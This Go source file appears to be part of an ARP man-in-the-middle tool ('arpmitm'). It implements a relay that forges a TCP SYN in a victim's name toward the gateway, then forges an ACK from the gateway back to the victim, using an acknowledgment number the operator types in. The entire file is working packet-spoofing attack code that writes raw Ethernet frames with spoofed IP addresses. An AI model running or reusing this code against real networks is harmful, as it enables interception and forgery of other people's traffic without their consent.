package spoofer

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"strconv"
	"strings"
	"sync"
	"time"

	"arpmitm/internal/link"
	"arpmitm/internal/models"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/sirupsen/logrus"
)

// ErrBadAck is returned when the operator's acknowledgment base is not a number.
var ErrBadAck = errors.New("invalid acknowledgment number")

const (
	relaySrcPort layers.TCPPort = 5000
	relayDstPort layers.TCPPort = 80
)

// Relay is a manual stand-in for a TCP relay: it opens a handshake in the
// victim's name and completes it with an acknowledgment typed by the operator.
// It forwards no payload.
type Relay struct {
	link  link.Transport
	local models.HostAddress
	lines chan lineResult
	done  chan struct{}
	once  sync.Once
	log   *logrus.Entry

	// Timeout bounds each wait for a response. Zero waits until the
	// context is cancelled.
	Timeout time.Duration
}

type lineResult struct {
	text string
	err  error
}

// NewRelay reads acknowledgment numbers from in, one per line. A
// *bufio.Reader is used as is, so lines already buffered by an earlier
// reader of the same input are not lost.
func NewRelay(t link.Transport, local models.HostAddress, in io.Reader, log *logrus.Entry) *Relay {
	r := &Relay{
		link:  t,
		local: local,
		lines: make(chan lineResult),
		done:  make(chan struct{}),
		log:   log.WithField("component", "relay"),
	}
	br, ok := in.(*bufio.Reader)
	if !ok {
		br = bufio.NewReader(in)
	}
	go r.readLines(br)
	return r
}

// Close stops handing lines to Probe.
func (r *Relay) Close() {
	r.once.Do(func() { close(r.done) })
}

// readLines feeds lines to Probe so a blocked stdin read never holds up an interrupt.
func (r *Relay) readLines(in *bufio.Reader) {
	for {
		text, err := in.ReadString('\n')
		if text != "" || err == nil {
			if !r.send(lineResult{text: text}) {
				return
			}
		}
		if err != nil {
			r.send(lineResult{err: err})
			return
		}
	}
}

func (r *Relay) send(line lineResult) bool {
	select {
	case r.lines <- line:
		return true
	case <-r.done:
		return false
	}
}

// Probe runs one relay step: SYN from victim to gateway, read the
// acknowledgment base, ACK from gateway to victim with ack=base+1 and seq=1.
func (r *Relay) Probe(ctx context.Context, s models.Session) error {
	syn := tcpSegment{
		EthSrc:  r.local.MAC,
		EthDst:  s.Gateway.MAC,
		SrcIP:   s.Victim.IP,
		DstIP:   s.Gateway.IP,
		SrcPort: relaySrcPort,
		DstPort: relayDstPort,
		SYN:     true,
	}
	resp, err := r.exchange(ctx, syn)
	if err != nil {
		return fmt.Errorf("syn probe: %w", err)
	}
	r.log.WithFields(logrus.Fields{"seq": resp.Seq, "ack": resp.Ack, "syn": resp.SYN, "rst": resp.RST}).Info("Received SYN probe response")

	base, err := r.readAck(ctx)
	if err != nil {
		return err
	}

	ack := tcpSegment{
		EthSrc:  r.local.MAC,
		EthDst:  s.Victim.MAC,
		SrcIP:   s.Gateway.IP,
		DstIP:   s.Victim.IP,
		SrcPort: relaySrcPort,
		DstPort: relayDstPort,
		Seq:     1,
		Ack:     base + 1,
		ACK:     true,
	}
	if _, err := r.exchange(ctx, ack); err != nil {
		return fmt.Errorf("ack probe: %w", err)
	}
	return nil
}

func (r *Relay) readAck(ctx context.Context) (uint32, error) {
	select {
	case <-ctx.Done():
		return 0, ctx.Err()
	case line := <-r.lines:
		if line.err != nil {
			return 0, fmt.Errorf("read acknowledgment: %w", line.err)
		}
		text := strings.TrimSpace(line.text)
		n, err := strconv.ParseUint(text, 10, 32)
		// base+1 has to fit in the acknowledgment field.
		if err != nil || n == math.MaxUint32 {
			return 0, fmt.Errorf("%w: %q", ErrBadAck, text)
		}
		return uint32(n), nil
	}
}

// exchange sends seg and waits for the first segment travelling back along it.
func (r *Relay) exchange(ctx context.Context, seg tcpSegment) (*layers.TCP, error) {
	frame, err := seg.serialize()
	if err != nil {
		return nil, fmt.Errorf("failed to serialize TCP segment: %w", err)
	}
	if err := r.link.WritePacketData(frame); err != nil {
		return nil, err
	}

	var deadline time.Time
	if r.Timeout > 0 {
		deadline = time.Now().Add(r.Timeout)
	}
	for {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		if !deadline.IsZero() && time.Now().After(deadline) {
			return nil, fmt.Errorf("no response from %s:%d", seg.DstIP, seg.DstPort)
		}

		data, _, err := r.link.ReadPacketData()
		if errors.Is(err, link.ErrTimeout) {
			continue
		}
		if err != nil {
			return nil, err
		}
		if tcp, ok := seg.answers(gopacket.NewPacket(data, layers.LayerTypeEthernet, gopacket.NoCopy)); ok {
			return tcp, nil
		}
	}
}
